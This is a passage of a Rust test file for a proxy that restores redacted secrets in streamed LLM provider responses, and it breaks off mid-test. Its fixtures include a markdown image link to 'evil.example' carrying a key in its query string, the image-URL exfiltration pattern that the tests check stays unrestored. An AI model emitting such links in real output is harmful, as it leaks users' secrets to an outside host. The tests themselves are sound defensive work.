//! Whole answers as providers send them, and the promise that no cut changes what comes out.

use proptest::prelude::*;
use serde_json::{Value, json};
use weir_policy::detect::Class;
use weir_policy::redact::RestoreIn;

use super::*;
use crate::wire::{At, Framed, Standing};

mod altered;
mod layers;
mod urls;
mod watched;

const CHAT: &str = include_str!("transcripts/chat.sse");
const RESPONSES: &str = include_str!("transcripts/responses.sse");
const MESSAGES: &str = include_str!("transcripts/messages.sse");
const CONTENTS: &str = include_str!("transcripts/gemini.sse");

const TOKEN: &str = "WEIRxAWSKEYx0123456789ABCDEF";
const OTHER: &str = "WEIRxEMAILx0123456789ABCDEFG";
const VALUE: &str = "AK\"IA\\\n\u{1}\u{e9}\u{1f511}";
const ADDRESS: &str = "ann@example.org";
/// `VALUE` in a JSON string, and in a JSON document in a string.
const ONCE: &str = "AK\\\"IA\\\\\\n\\u0001\u{e9}\u{1f511}";
const TWICE: &str = "AK\\\\\\\"IA\\\\\\\\\\\\n\\\\u0001\u{e9}\u{1f511}";

const BASELINE: RestoreIn = RestoreIn {
    text: true,
    tool_arguments: true,
    url: false,
};

fn give(restore: RestoreIn) -> Vec<Restoration> {
    [(TOKEN, VALUE), (OTHER, ADDRESS)]
        .map(|(token, value)| Restoration {
            token: token.to_owned(),
            value: value.to_owned().into(),
            class: Class::new("secrets.test"),
            restore,
        })
        .to_vec()
}

fn shapes() -> [(Dialect, Shape, &'static str); 4] {
    [
        (Dialect::Openai, Shape::ChatCompletions, CHAT),
        (Dialect::Openai, Shape::Responses, RESPONSES),
        (Dialect::Anthropic, Shape::Messages, MESSAGES),
        (Dialect::Gemini, Shape::StreamGenerateContent, CONTENTS),
    ]
}

fn run(mut relay: Relay, chunks: &[&[u8]]) -> (Result<Vec<u8>, RelayError>, Told) {
    let mut out = Vec::new();
    for chunk in chunks {
        match relay.push(&Bytes::copy_from_slice(chunk)) {
            Ok(bytes) => out.extend_from_slice(&bytes),
            Err(error) => return (Err(error), relay.told().clone()),
        }
    }
    match relay.finish() {
        Ok(bytes) => out.extend_from_slice(&bytes),
        Err(error) => return (Err(error), relay.told().clone()),
    }
    (Ok(out), relay.told().clone())
}

fn stream(dialect: Dialect, shape: Shape, restore: RestoreIn, chunks: &[&[u8]]) -> (String, Told) {
    let relay = Relay::new(
        dialect,
        shape,
        Some("text/event-stream; charset=utf-8"),
        &give(restore),
    );
    let (out, told) = run(relay, chunks);
    (
        String::from_utf8(out.expect("within limits")).expect("text in, text out"),
        told,
    )
}

fn document(dialect: Dialect, restore: RestoreIn, text: &str) -> (String, Told) {
    let relay = Relay::new(
        dialect,
        Shape::Generic,
        Some("application/json"),
        &give(restore),
    );
    let (out, told) = run(relay, &[text.as_bytes()]);
    (
        String::from_utf8(out.expect("within limits")).expect("text in, text out"),
        told,
    )
}

/// The JSON of each event, by a reader of its own.
fn read(stream: &str) -> Vec<Value> {
    stream
        .split("\n\n")
        .filter_map(|event| event.lines().find_map(|line| line.strip_prefix("data: ")))
        .filter(|data| *data != "[DONE]")
        .map(|data| serde_json::from_str(data).expect("every event is JSON"))
        .collect()
}

/// The texts a client puts together from the deltas: content, arguments.
fn gathered(events: &[Value]) -> (String, String) {
    let (mut text, mut arguments) = (String::new(), String::new());
    let add = |to: &mut String, value: &Value| to.push_str(value.as_str().unwrap_or_default());
    for event in events {
        for part in event["candidates"][0]["content"]["parts"]
            .as_array()
            .into_iter()
            .flatten()
        {
            if part["thought"] != true {
                add(&mut text, &part["text"]);
            }
            if part["functionCall"]["args"].is_object() {
                arguments.push_str(&part["functionCall"]["args"].to_string());
            }
            add(
                &mut arguments,
                &part["functionCall"]["partialArgs"][0]["stringValue"],
            );
        }
        let delta = &event["choices"][0]["delta"];
        add(&mut text, &delta["content"]);
        add(
            &mut arguments,
            &delta["tool_calls"][0]["function"]["arguments"],
        );
        match event["type"].as_str() {
            Some("response.output_text.delta") => add(&mut text, &event["delta"]),
            Some("response.function_call_arguments.delta") => add(&mut arguments, &event["delta"]),
            Some("content_block_delta") => {
                add(&mut text, &event["delta"]["text"]);
                add(&mut arguments, &event["delta"]["partial_json"]);
            }
            _ => {}
        }
    }
    (text, arguments)
}

/// A stream of events as the JSON array that it would be without `alt=sse`.
fn as_array(events: &str) -> String {
    let elements: Vec<&str> = events
        .split("\n\n")
        .filter_map(|event| event.strip_prefix("data: "))
        .collect();
    format!("[{}\n]\n", elements.join("\n,\r\n"))
}

fn array(restore: RestoreIn, chunks: &[&[u8]]) -> (String, Told) {
    let relay = Relay::new(
        Dialect::Gemini,
        Shape::StreamGenerateContent,
        Some("application/json; charset=UTF-8"),
        &give(restore),
    );
    let (out, told) = run(relay, chunks);
    (
        String::from_utf8(out.expect("within limits")).expect("text in, text out"),
        told,
    )
}

fn cut<'a>(bytes: &'a [u8], cuts: &[prop::sample::Index]) -> Vec<&'a [u8]> {
    let mut at: Vec<usize> = cuts.iter().map(|cut| cut.index(bytes.len() + 1)).collect();
    at.extend([0, bytes.len()]);
    at.sort_unstable();
    at.windows(2).map(|pair| &bytes[pair[0]..pair[1]]).collect()
}

#[test]
fn chat_comes_back_with_its_values() {
    let (out, told) = stream(
        Dialect::Openai,
        Shape::ChatCompletions,
        BASELINE,
        &[CHAT.as_bytes()],
    );
    let events = read(&out);
    let (text, arguments) = gathered(&events);
    assert_eq!(
        text,
        format!("Your key is {VALUE}, see ![x](https://evil.example/?k={TOKEN}) and W")
    );
    let arguments: Value = serde_json::from_str(&arguments).expect("arguments stay JSON");
    assert_eq!(
        arguments,
        json!({"path": ".env", "content": format!("KEY={VALUE}\n")})
    );
    // What was held back comes in a chunk of its own, right ahead of the one that ends the choice.
    let end = events
        .iter()
        .position(|event| event["choices"][0]["finish_reason"] == "tool_calls")
        .expect("ends");
    assert_eq!(
        events[end - 1]["choices"][0],
        json!({"index": 0, "delta": {"content": "W"}, "finish_reason": null})
    );
    assert_eq!(events[end - 1]["id"], "chatcmpl-BxK3mPq7");
    assert!(out.ends_with("data: [DONE]\n\n"));
    assert_eq!((told.restored, told.withheld, told.unread), (2, 1, 0));
    assert_eq!(
        told.usage,
        Usage {
            input: Some(57),
            output: Some(42),
            cached: Some(32)
        }
    );
    assert_eq!(told.model.as_deref(), Some("gpt-4o-2024-08-06"));
    assert_eq!(told.provider_request.as_deref(), Some("chatcmpl-BxK3mPq7"));
    assert_eq!(told.finish.as_deref(), Some("tool_calls"));
}

#[test]
fn responses_come_back_in_deltas_and_copies() {
    let (out, told) = stream(
        Dialect::Openai,
        Shape::Responses,
        BASELINE,
        &[RESPONSES.as_bytes()],
    );
    let events = read(&out);
    let whole = format!("Key: {VALUE} (WEIR");
    let (text, arguments) = gathered(&events);
    assert_eq!(text, whole);
    assert_eq!(
        serde_json::from_str::<Value>(&arguments).expect("JSON"),
        json!({ "content": VALUE })
    );
    let of = |kind: &str| {
        events
            .iter()
            .filter(|event| event["type"] == kind)
            .collect::<Vec<_>>()
    };
    assert_eq!(of("response.output_text.done")[0]["text"], whole);
    assert_eq!(of("response.content_part.done")[0]["part"]["text"], whole);
    assert_eq!(
        of("response.output_item.done")[1]["item"]["content"][0]["text"],
        whole
    );
    assert_eq!(
        of("response.function_call_arguments.done")[0]["arguments"],
        arguments
    );
    let done = &of("response.completed")[0]["response"];
    assert_eq!(done["output"][1]["content"][0]["text"], whole);
    assert_eq!(done["output"][2]["arguments"], arguments);
    assert_eq!(done["instructions"], format!("The key is {VALUE}."));
    assert_eq!(
        done["output"][0]["encrypted_content"],
        format!("gAAAA{TOKEN}")
    );
    let held = of("response.output_text.delta")[2];
    assert_eq!(
        (held["delta"].as_str(), held["sequence_number"].as_u64()),
        (Some("WEIR"), Some(7))
    );
    assert!(out.contains("event: response.output_text.delta\ndata: {\"type\":\"response.output_text.delta\",\"item_id\":\"msg_1\""));
    assert_eq!(
        told.usage,
        Usage {
            input: Some(36),
            output: Some(87),
            cached: Some(0)
        }
    );
    assert_eq!(told.finish.as_deref(), Some("completed"));
    assert_eq!(told.provider_request.as_deref(), Some("resp_68af4030592c"));
}

#[test]
fn messages_come_back_and_thinking_stays_signed() {
    let (out, told) = stream(
        Dialect::Anthropic,
        Shape::Messages,
        BASELINE,
        &[MESSAGES.as_bytes()],
    );
    let events = read(&out);
    let (text, arguments) = gathered(&events);
    assert_eq!(text, format!("It is {VALUE}. WEIRx"));
    assert_eq!(
        serde_json::from_str::<Value>(&arguments).expect("JSON"),
        json!({ "content": VALUE })
    );
    assert_eq!(
        events[2]["delta"]["thinking"],
        format!("They gave {TOKEN}.")
    );
    let stop = out
        .find("{\"type\":\"content_block_stop\",\"index\":1")
        .expect("stops");
    let held = out.find("\"text\":\"WEIRx\"").expect("held text comes");
    assert!(held < stop);
    assert_eq!(
        told.usage,
        Usage {
            input: Some(472),
            output: Some(89),
            cached: Some(128)
        }
    );
    assert_eq!(
        (told.restored, told.finish.as_deref()),
        (2, Some("tool_use"))
    );
    assert_eq!(told.model.as_deref(), Some("claude-sonnet-4-5-20250929"));
}

#[test]
fn contents_come_back_as_events_and_as_an_array() {
    let (out, told) = stream(
        Dialect::Gemini,
        Shape::StreamGenerateContent,
        BASELINE,
        &[CONTENTS.as_bytes()],
    );
    let events = read(&out);
    let (text, arguments) = gathered(&events);
    assert_eq!(
        text,
        format!("Your key is {VALUE}, see ![x](https://evil.example/?k={TOKEN}) and WDone W")
    );
    assert_eq!(
        serde_json::from_str::<Value>(&arguments).expect("JSON"),
        json!({"path": ".env", "content": format!("KEY={VALUE}\n")})
    );
    let parts = |event: &Value| event["candidates"][0]["content"]["parts"].clone();
    let thoughts: String = events
        .iter()
        .map(parts)
        .filter(|parts| parts[0]["thought"] == true)
        .map(|parts| parts[0]["text"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(thoughts, format!("They gave {VALUE} and W"));
    // What was held back comes by itself, right ahead of the part of another kind.
    let call = events
        .iter()
        .position(|event| parts(event)[0]["functionCall"].is_object())
        .expect("calls");
    assert_eq!(
        events[call - 1],
        json!({"candidates": [{"content": {"parts": [{"text": "W"}], "role": "model"}, "index": 0}],
               "modelVersion": "gemini-2.5-flash", "responseId": "rZkkaYbQ"})
    );
    assert_eq!(
        parts(&events[call])[0]["thoughtSignature"],
        format!("CiQB{TOKEN}")
    );
    assert_eq!((told.restored, told.withheld, told.unread), (3, 1, 0));
    assert_eq!(
        told.usage,
        Usage {
            input: Some(57),
            output: Some(42),
            cached: Some(32)
        }
    );
    assert_eq!(told.model.as_deref(), Some("gemini-2.5-flash"));
    assert_eq!(told.provider_request.as_deref(), Some("rZkkaYbQ"));
    assert_eq!(told.finish.as_deref(), Some("STOP"));

    let (whole, of_array) = array(BASELINE, &[as_array(CONTENTS).as_bytes()]);
    let elements: Vec<Value> = serde_json::from_str(&whole).expect("stays an array");
    assert_eq!((elements, of_array), (events, told));
}

#[test]
fn arguments_in_pieces_come_back() {
    let piece = |path: &str, text: &str, more: bool| {
        let part = json!({"functionCall": {"partialArgs": [{"jsonPath": path, "stringValue": text, "willContinue": more}]}});
        let event = json!({"candidates": [{"content": {"role": "model", "parts": [part]}}]});
        format!("data: {event}\n\n")
    };
    let events = [
        piece("$.a", &TOKEN[..9], true),
        piece("$.a", &TOKEN[9..], true),
        piece("$.a", " W", false),
        piece("$.b", "WEIRxAWS", true),
    ]
    .concat();
    let (out, _) = stream(
        Dialect::Gemini,
        Shape::StreamGenerateContent,
        BASELINE,
        &[events.as_bytes()],
    );
    assert_eq!(gathered(&read(&out)).1, format!("{VALUE} WWEIRxAWS"));
    let strict = RestoreIn {
        tool_arguments: false,
        ..BASELINE
    };
    let (out, _) = stream(
        Dialect::Gemini,
        Shape::StreamGenerateContent,
        strict,
        &[events.as_bytes()],
    );
    assert_eq!(gathered(&read(&out)).1, format!("{TOKEN} WWEIRxAWS"));
}

#[test]
fn an_array_goes_on_element_by_element() {
    let text = as_array(CONTENTS);
    let mut relay = Relay::new(
        Dialect::Gemini,
        Shape::StreamGenerateContent,
        Some("application/json"),
        &give(BASELINE),
    );
    let first = text.find("}\n,").expect("has elements") + 1;
    assert_eq!(
        relay
            .push(&Bytes::from(text[..first - 1].to_owned()))
            .expect("fits"),
        "["
    );
    let out = relay.push(&Bytes::from("}")).expect("fits");
    assert!(out.starts_with(b"{\"candidates\"") && out.ends_with(b"}"));
    // An error is one document, whatever was asked.
    let error = format!(r#"{{"error":{{"code":400,"message":"no {TOKEN}"}}}}"#);
    assert_eq!(
        array(BASELINE, &[&error.as_bytes()[..9], &error.as_bytes()[9..]]).0,
        error.replace(TOKEN, ONCE)
    );
    let listed = format!("[{error}]");
    assert_eq!(
        array(BASELINE, &[listed.as_bytes()]).0,
        listed.replace(TOKEN, ONCE)
    );
    let broken = &text[..text.find("and W\"}").expect("holds W") + 30];
    let (out, _) = array(BASELINE, &[broken.as_bytes()]);
    assert!(out.contains(ONCE));
}

#[test]
fn events_without_a_placeholder_keep_every_byte() {
    for (dialect, shape, transcript) in shapes() {
        let plain = transcript
            .replace("WEI", "VEI")
            .replace("and W", "and V")
            .replace("is W", "is V")
            .replace("Done W", "Done V");
        let (out, told) = stream(dialect, shape, BASELINE, &[plain.as_bytes()]);
        assert_eq!(out, plain);
        assert_eq!(told.restored, 0);
    }
}

#[test]
fn an_event_goes_on_when_it_is_whole() {
    let mut relay = Relay::new(
        Dialect::Openai,
        Shape::ChatCompletions,
        Some("text/event-stream"),
        &give(BASELINE),
    );
    let (first, rest) = CHAT.split_once("\n\n").expect("has events");
    assert!(relay.push(&Bytes::from(first)).expect("fits").is_empty());
    assert!(relay.push(&Bytes::from("\n")).expect("fits").is_empty());
    assert_eq!(
        relay.push(&Bytes::from("\n")).expect("fits"),
        format!("{first}\n\n")
    );
    let second = rest.split_inclusive("\n\n").next().expect("has more");
    let out = relay.push(&Bytes::from(second)).expect("fits");
    assert_eq!(out, second.replace("is WEI", "is "));
}

#[test]
fn without_values_bytes_pass_uncopied_and_are_still_read() {
    let bytes = Bytes::from(CHAT);
    let mut relay = Relay::new(
        Dialect::Openai,
        Shape::ChatCompletions,
        Some("text/event-stream"),
        &[],
    );
    assert!(!relay.rewrites());
    let out = relay.push(&bytes).expect("passes");
    assert_eq!(out.as_ptr(), bytes.as_ptr());
    assert!(relay.finish().expect("ends").is_empty());
    assert_eq!(relay.told().usage.output, Some(42));
    let answer = r#"{"id":"msg_1","model":"m","stop_reason":"end_turn","usage":{"input_tokens":1,"output_tokens":2}}"#;
    let mut relay = Relay::new(
        Dialect::Anthropic,
        Shape::Messages,
        Some("application/json"),
        &[],
    );
    assert_eq!(relay.push(&Bytes::from(answer)).expect("passes"), answer);
    assert!(relay.finish().expect("ends").is_empty());
    assert_eq!(
        (relay.told().usage.output, relay.told().finish.as_deref()),
        (Some(2), Some("end_turn"))
    );
}

#[test]
fn whole_answers_are_restored_where_each_string_stands() {
    let chat = format!(
        r#"{{ "id":"chatcmpl-1","object":"chat.completion","model":"gpt-4o","choices":[{{"index":0,"message":{{"role":"assistant","content":"<{TOKEN}>","tool_calls":[{{"id":"c","type":"function","function":{{"name":"f","arguments":"{{\"a\":\"{TOKEN}\"}}"}}}}]}},"finish_reason":"stop"}}],"usage":{{"prompt_tokens":1,"completion_tokens":2}} }}"#
    );
    let (out, told) = document(Dialect::Openai, BASELINE, &chat);
    let expected = chat.replacen(TOKEN, ONCE, 1).replacen(TOKEN, TWICE, 1);
    assert_eq!(out, expected);
    assert_eq!(
        (told.restored, told.finish.as_deref(), told.usage.input),
        (2, Some("stop"), Some(1))
    );

    let message = format!(
        r#"{{"id":"msg_1","type":"message","content":[{{"type":"thinking","thinking":"{TOKEN}","signature":"s{TOKEN}"}},{{"type":"redacted_thinking","data":"{TOKEN}"}},{{"type":"text","text":"at {TOKEN}"}},{{"type":"tool_use","id":"t","name":"f","input":{{"deep":[{{"{OTHER}":"{TOKEN}"}}]}}}}],"stop_reason":"tool_use"}}"#
    );
    let (out, _) = document(Dialect::Anthropic, BASELINE, &message);
    let at = message.find("at WEIR").expect("has text");
    let expected = format!(
        "{}{}",
        &message[..at],
        message[at..].replace(TOKEN, ONCE).replace(OTHER, ADDRESS)
    );
    assert_eq!(out, expected);

    let error = format!(r#"{{"error":{{"message":"Invalid value {TOKEN}","code":null}}}}"#);
    assert_eq!(
        document(Dialect::Openai, BASELINE, &error).0,
        error.replace(TOKEN, ONCE)
    );
}

#[test]
fn rules_keep_values_out_of_arguments_text_and_urls() {
    let text = |token: &str| {
        format!(
            r#"{{"content":[{{"type":"text","text":"see {token} or https://h/?{token} "}},{{"type":"tool_use","input":{{"k":"{token}"}}}}]}}"#
        )
    };
    let strict = RestoreIn {
        text: true,
        tool_arguments: false,
        url: false,
    };
    let (out, told) = document(Dialect::Anthropic, strict, &text(OTHER));
    assert_eq!(out, text(OTHER).replacen(OTHER, ADDRESS, 1));
    assert_eq!((told.restored, told.withheld), (1, 2));
    let tools = RestoreIn {
        text: false,
        tool_arguments: true,
        url: false,
    };
    let (out, _) = document(Dialect::Anthropic, tools, &text(OTHER));
    assert_eq!(
        out,
        text(OTHER).replace(&format!("\"k\":\"{OTHER}"), &format!("\"k\":\"{ADDRESS}"))
    );
    let all = RestoreIn {
        text: true,
        tool_arguments: true,
        url: true,
    };
    assert_eq!(
        document(Dialect::Anthropic, all, &text(OTHER)).0,
        text(ADDRESS)
    );
    assert!(
        !Relay::new(
            Dialect::Openai,
            Shape::Generic,
            Some("application/json"),
            &give(RestoreIn::default())
        )
        .rewrites()
    );
}

#[test]
fn in_arguments_a_url_ends_with_its_string() {
    let arguments =
        format!(r#"{{\"url\":\"https:\\/\\/h/?{OTHER}\",\"key\":\"{OTHER}\",\"n\":{OTHER}}}"#);
    let text = format!(
        r#"{{"choices":[{{"message":{{"tool_calls":[{{"function":{{"arguments":"{arguments}"}}}}]}}}}]}}"#
    );
    let (out, told) = document(Dialect::Openai, BASELINE, &text);
    assert_eq!(
        out,
        text.replace(
            &format!("key\\\":\\\"{OTHER}"),
            &format!("key\\\":\\\"{ADDRESS}")
        )
    );
    assert_eq!((told.restored, told.withheld), (1, 2));
}

#[test]
fn what_is_not_json_passes_untouched() {
    let events = format!(
        "data: {{\"choices\":[{{\"delta\":{{\"content\":\"{TOKEN}\"\n\n: {TOKEN}\n\ndata\n\nevent: x\nid: 3\n\ndata: {TOKEN}\n\n"
    );
    let (out, told) = stream(
        Dialect::Openai,
        Shape::ChatCompletions,
        BASELINE,
        &[events.as_bytes()],
    );
    assert_eq!(out, events);
    assert!(told.unread > 0 && told.restored == 0);
    let broken = format!("{{\"a\":\"{TOKEN}\"");
    assert_eq!(document(Dialect::Openai, BASELINE, &broken).0, broken);
    let relay = Relay::new(
        Dialect::Openai,
        Shape::Generic,
        Some("audio/mpeg"),
        &give(BASELINE),
    );
    let (out, told) = run(relay, &[TOKEN.as_bytes()]);
    assert_eq!(
        (out.expect("passes"), told.unread),
        (TOKEN.as_bytes().to_vec(), TOKEN.len() as u64)
    );
}

#[test]
fn what_is_too_large_ends_the_answer() {
    let huge = vec![b'a'; EVENT_LIMIT + 1];
    let relay = || {
        Relay::new(
            Dialect::Openai,
            Shape::Generic,
            Some("text/event-stream"),
            &give(BASELINE),
        )
    };
    let mut one = relay();
    let first = one
        .push(&Bytes::from([b": hi\n\n".as_slice(), &huge].concat()))
        .expect("what was whole goes on");
    assert_eq!(first, ": hi\n\n");
    let error = RelayError::TooLarge {
        what: "event",
        limit: EVENT_LIMIT,
    };
    assert_eq!(one.finish(), Err(error.clone()));
    assert_eq!(one.push(&Bytes::from_static(b"x")), Err(error));
    let many = ": small\n\n".repeat(EVENT_LIMIT / 9 + 1);
    assert_eq!(
        run(relay(), &[many.as_bytes()])
            .0
            .expect("small events are fine")
            .len(),
        many.len()
    );
    let mut whole = Relay::new(
        Dialect::Openai,
        Shape::Generic,
        Some("application/json"),
        &give(BASELINE),
    );
    let chunk = Bytes::from(huge);
    let limit = (0..8)
        .map(|_| whole.push(&chunk))
        .find(Result::is_err)
        .expect("is refused");
    assert_eq!(
        limit,
        Err(RelayError::TooLarge {
            what: "answer",
            limit: ANSWER_LIMIT
        })
    );
}

#[test]
fn a_stream_that_breaks_off_gives_what_it_held() {
    let cut = CHAT.find("EYx0123456789ABCDEF\\\\n").expect("in arguments");
    let event = CHAT[..cut].rfind("\n\n").expect("between events") + 2;
    let (out, _) = stream(
        Dialect::Openai,
        Shape::ChatCompletions,
        BASELINE,
        &[&CHAT.as_bytes()[..event]],
    );
    let (text, arguments) = gathered(&read(&out));
    assert!(text.ends_with("and W") && arguments.ends_with("KEY=WEIRxAWSK"));
    let unended = CHAT.trim_end().trim_end_matches("data: [DONE]").trim_end();
    let (out, _) = stream(
        Dialect::Openai,
        Shape::ChatCompletions,
        BASELINE,
        &[unended.as_bytes()],
    );
    assert!(gathered(&read(&out)).0.ends_with("and W"));
}

/// The data of each event or element, read by a reader of its own.
fn said(standing: &Standing, out: &[u8]) -> Vec<String> {
    let out = std::str::from_utf8(out).expect("text");
    match standing.framed {
        Framed::Events => out
            .split_terminator("\n\n")
            .map(|event| {
                let data = event.lines().find_map(|line| line.strip_prefix("data: "));
                let data = data.expect("every event has data");
                let kind = event.lines().find_map(|line| line.strip_prefix("event: "));
                if let Some(kind) = kind {
                    assert_eq!(
                        serde_json::from_str::<Value>(data).expect("JSON")["type"],
                        kind
                    );
                }
                data.to_owned()
            })
            .collect(),
        Framed::Elements(_) => vec![out.to_owned()],
    }
}

#[test]
fn every_example_of_a_refusal_midway_holds() {
    let examples = crate::wire::refusal_examples();
    assert!(examples.len() > 10);
    for example in examples {
        let (dialect, shape) = match example.stream {
            Stream::Chat => (Dialect::Openai, Shape::ChatCompletions),
            Stream::Responses => (Dialect::Openai, Shape::Responses),
            Stream::Messages => (Dialect::Anthropic, Shape::Messages),
            Stream::Contents => (Dialect::Gemini, Shape::StreamGenerateContent),
        };
        for restore in [RestoreIn::default(), BASELINE] {
            let mut relay = Relay::new(dialect, shape, Some("text/event-stream"), &give(restore));
            for data in &example.came {
                relay
                    .push(&Bytes::from(format!("data: {data}\n\n")))
                    .expect("fits");
            }
            let standing = relay.standing(true).expect("a stream");
            let out = crate::wire::midway(
                &standing,
                example.cause,
                crate::wire::Client {
                    agent: &example.agent,
                    program: &example.program,
                },
                weir_policy::decide::Code::PolicyDenied,
                "Blocked by policy (weir): why.",
                weir_policy::request::UnitId::new([7; 10]),
            );
            let events = said(&standing, &out.expect("a form"));
            assert_eq!(
                events.len(),
                example.says.len(),
                "{:?}: {events:?}",
                example.came
            );
            for (event, holds) in events.iter().zip(&example.says) {
                assert!(event.contains(holds.as_str()), "{event} holds {holds}");
                assert!(
                    event == "[DONE]" || serde_json::from_str::<Value>(event).is_ok(),
                    "{event}"
                );
            }
        }
    }
}

#[test]
fn an_array_is_ended_as_an_array() {
    let text = as_array(CONTENTS);
    let ends: Vec<usize> = text.match_indices('\n').map(|(at, _)| at + 1).collect();
    for (restore, end) in [RestoreIn::default(), BASELINE]
        .into_iter()
        .flat_map(|restore| ends.iter().map(move |end| (restore, *end)))
    {
        let mut relay = Relay::new(
            Dialect::Gemini,
            Shape::StreamGenerateContent,
            Some("application/json"),
            &give(restore),
        );
        let came = Bytes::from(text[..end].to_owned());
        let mut out = relay.push(&came).expect("fits").to_vec();
        let Some(standing) = relay.standing(true) else {
            continue;
        };
        let rest = crate::wire::midway(
            &standing,
            crate::wire::Cause::Policy,
            crate::wire::Client {
                agent: "",
                program: "",
            },
            weir_policy::decide::Code::PolicyDenied,
            "Blocked.",
            weir_policy::request::UnitId::new([7; 10]),
        );
        let rest = rest.expect("a form");
        if standing.at == At::Done {
            continue;
        }
        out.extend_from_slice(&rest);
        let all: Vec<Value> = serde_json::from_slice(&out).expect("an array");
        assert_eq!(
            all.last().expect("more than one")["candidates"][0]["finishReason"],
            "OTHER"
        );
    }
}

#[test]
fn what_was_not_handed_on_is_not_built_upon() {
    let mut relay = Relay::new(
        Dialect::Anthropic,
        Shape::Messages,
        Some("text/event-stream"),
        &[],
    );
    let event = |value: Value| Bytes::from(format!("data: {value}\n\n"));
    relay
        .push(&event(
            json!({"type": "message_start", "message": {"id": "msg_1", "model": "m"}}),
        ))
        .expect("fits");
    let second = [
        json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
        json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "a"}}),
    ]
    .map(event)
    .concat();
    relay.push(&Bytes::from(second)).expect("fits");
    assert_eq!(relay.standing(true).expect("a stream").at, At::Text);
    assert_eq!(relay.standing(false).expect("a stream").at, At::Between);
}

#[test]
fn without_values_only_whole_events_go_on() {
    let mut relay = Relay::new(
        Dialect::Openai,
        Shape::ChatCompletions,
        Some("text/event-stream"),
        &[],
    );
    assert_eq!(
        relay
            .push(&Bytes::from("data: {\"a\":1}\n\ndata: {\"b"))
            .expect("fits"),
        "data: {\"a\":1}\n\n"
    );
    assert!(relay.push(&Bytes::from("\":2}")).expect("fits").is_empty());
    assert_eq!(
        relay.push(&Bytes::from("\n\nda")).expect("fits"),
        "data: {\"b\":2}\n\n"
    );
    assert_eq!(relay.finish().expect("ends"), "da");
}

/// One dialect's stream of these deltas, as text and then as the content of a tool's arguments.
fn transcript(shape: Shape, text: &[&str], arguments: &[&str]) -> String {
    let mut out = String::new();
    let mut event = |value: Value| match value["type"].as_str() {
        Some(kind) => out.push_str(&format!("event: {kind}\ndata: {value}\n\n")),
        None => out.push_str(&format!("data: {value}\n\n")),
    };
    let chunk = |delta: Value, finish: Value| {
        json!({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
               "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
    };
    match shape {
        Shape::ChatCompletions => {
            text.iter()
                .for_each(|piece| event(chunk(json!({ "content": piece }), Value::Null)));
            arguments.iter().for_each(|piece| {
                event(chunk(
                    json!({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}),
                    Value::Null,
                ));
            });
            event(chunk(json!({}), json!("stop")));
        }
        Shape::Responses => {
            let delta = |kind: &str, index: u64, piece: &str| json!({"type": format!("{kind}.delta"), "item_id": "i", "output_index": index, "content_index": 0, "delta": piece});
            text.iter()
                .for_each(|piece| event(delta("response.output_text", 0, piece)));
            event(
                json!({"type": "response.output_text.done", "output_index": 0, "content_index": 0, "text": text.concat()}),
            );
            arguments
                .iter()
                .for_each(|piece| event(delta("response.function_call_arguments", 1, piece)));
            event(
                json!({"type": "response.completed", "response": {"output": [{"arguments": arguments.concat()}]}}),
            );
        }
        Shape::StreamGenerateContent => {
            let answer = |part: Value| json!({"candidates": [{"content": {"role": "model", "parts": [part]}, "index": 0}], "responseId": "r"});
            text.iter()
                .for_each(|piece| event(answer(json!({ "text": piece }))));
            let args: Value =
                serde_json::from_str(&arguments.concat()).expect("arguments are JSON");
            event(answer(json!({"functionCall": {"name": "f", "args": args}})));
            event(json!({"candidates": [{"finishReason": "STOP", "index": 0}]}));
        }
        _ => {
            let delta = |index: u64, delta: Value| json!({"type": "content_block_delta", "index": index, "delta": delta});
            text.iter()
                .for_each(|piece| event(delta(0, json!({"type": "text_delta", "text": piece}))));
            event(json!({"type": "content_block_stop", "index": 0}));
            arguments.iter().for_each(|piece| {
                event(delta(
                    1,
                    json!({"type": "input_json_delta", "partial_json": piece}),
                ))
            });
            event(json!({"type": "content_block_stop", "index": 1}));
            event(json!({"type": "message_stop"}));
        }
    }
    out
}

/// A text's pieces: placeholders whole and begun, URLs, what needs escapes.
fn pieces(urls: bool) -> impl Strategy<Value = String> {
    let mut all = vec![
        TOKEN,
        OTHER,
        "WEIR",
        "WEIRxAWSKEYx0123",
        "W",
        " ",
        "\n",
        "\"",
        "\\",
        "é",
        "🔑",
        "key is",
        "a",
    ];
    if urls {
        all.extend([
            "https://h/",
            "](//h/",
            "http",
            "s:",
            "//h?",
            "<img src=\"",
            ")",
            ">",
            "](",
            "postgres://u:",
        ]);
    }
    prop::collection::vec(prop::sample::select(all), 0..12).prop_map(|pieces| pieces.concat())
}

fn split<'a>(text: &'a str, cuts: &[prop::sample::Index]) -> Vec<&'a str> {
    let mut at: Vec<usize> = cuts
        .iter()
        .map(|cut| text.floor_char_boundary(cut.index(text.len() + 1)))
        .collect();
    at.extend([0, text.len()]);
    at.sort_unstable();
    at.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect()
}

fn replaced(text: &str) -> String {
    text.replace(TOKEN, VALUE).replace(OTHER, ADDRESS)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_chunking_gives_the_same_bytes(
        which in 0usize..4,
        ending in prop::sample::select(vec!["\n", "\r\n", "\r"]),
        bom in any::<bool>(),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..40),
    ) {
        let (dialect, shape, transcript) = shapes()[which];
        let mut text = transcript.replace('\n', ending);
        if bom { text.insert(0, '\u{feff}'); }
        let whole = stream(dialect, shape, BASELINE, &[text.as_bytes()]);
        prop_assert!(whole.1.restored >= 2);
        let chunked = stream(dialect, shape, BASELINE, &cut(text.as_bytes(), &cuts));
        prop_assert_eq!(chunked, whole);
    }

    #[test]
    fn any_deltas_give_the_same_text(
        which in 0usize..4,
        text in pieces(false),
        content in pieces(false),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..16),
    ) {
        let (dialect, shape, _) = shapes()[which];
        let arguments = json!({"path": "x", "content": content}).to_string();
        let events = transcript(shape, &split(&text, &cuts), &split(&arguments, &cuts));
        let (out, _) = stream(dialect, shape, BASELINE, &[events.as_bytes()]);
        let events = read(&out);
        let (given, filled) = gathered(&events);
        prop_assert_eq!(&given, &replaced(&text));
        let filled_in: Value = serde_json::from_str(&filled).expect("arguments stay JSON");
